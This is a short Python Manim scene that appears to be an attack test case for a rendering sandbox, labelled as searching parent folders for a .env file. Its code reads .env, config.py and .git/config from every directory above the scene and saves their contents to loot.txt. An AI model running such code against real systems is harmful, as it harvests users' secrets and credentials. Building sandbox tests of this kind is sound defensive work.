# family: file
# layer: sandbox
# attack: search every folder above the scene for a .env file
from pathlib import Path
from manim import *


class Attack(Scene):
    def construct(self):
        here, out = Path(__file__).resolve().parent, []
        for d in [here, *here.parents]:
            for name in (".env", "config.py", ".git/config"):
                try:
                    out.append((d / name).read_text())
                except OSError:
                    pass
        Path("loot.txt").write_text("\n".join(out))
        self.wait(0.1)
